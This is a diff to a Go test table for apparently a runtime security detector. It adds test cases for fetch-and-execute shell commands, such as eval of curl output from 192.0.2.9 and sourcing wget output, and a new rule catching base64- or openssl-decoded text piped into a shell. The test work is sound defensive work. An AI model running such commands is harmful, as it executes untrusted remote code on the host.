@@ -293,6 +293,9 @@ var integrityScenarios = []scenario{
 			exec("gunzip", attr(schema.ProcessStdinFrom, "curl"), attr(schema.ProcessStdoutTo, "bash")),
 			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"curl"}), below("bash")),
 			exec("python3 -c print()", attr(schema.ProcessScriptFrom, []any{"wget"}), in("web")),
+			execArgs("sh", []string{"-c", `cd /srv; eval "$(curl -s http://192.0.2.9)"`}),
+			execArgs("bash", []string{"-c", "source <(curl -s http://192.0.2.9)"}, in("web")),
+			execArgs("sh", []string{"-c", ". <(wget -qO- http://192.0.2.9)"}),
 		},
 		silent: []activity{
 			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
@@ -303,6 +306,25 @@ var integrityScenarios = []scenario{
 			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"cat"})),
 			exec("diff /dev/fd/63 /dev/fd/62", attr(schema.ProcessScriptFrom, []any{"curl"})),
 			exec("bash"),
+			exec("sh -c /usr/sbin/dpkg-preconfigure", attr(schema.ProcessScriptFrom, []any{"http"}), below("apt-get", "bash")),
+			execArgs("sh", []string{"-c", `v="$(curl -s http://192.0.2.9)"; eval "$(ssh-agent)"`}),
+		},
+	},
+	{
+		rule: "Encoded text run by a shell",
+		fires: []activity{
+			exec("sh", attr(schema.ProcessStdinFrom, "base64"), below("bash")),
+			exec("bash", attr(schema.ProcessStdinFrom, "openssl"), in("web")),
+			exec("python3 -", attr(schema.ProcessStdinFrom, "xxd")),
+			exec("base64 -d", attr(schema.ProcessStdoutTo, "sh")),
+			exec("bash -c id", attr(schema.ProcessScriptFrom, []any{"base64"})),
+		},
+		silent: []activity{
+			exec("base64 -d", attr(schema.ProcessStdoutTo, "tar")),
+			exec("base64 x", attr(schema.ProcessStdoutTo, "sh")),
+			exec("sh -c cat>x", attr(schema.ProcessStdinFrom, "base64")),
+			exec("python3 -m json.tool", attr(schema.ProcessStdinFrom, "base64")),
+			exec("sh", attr(schema.ProcessStdinFrom, "cat")),
 		},
 	},
 	{
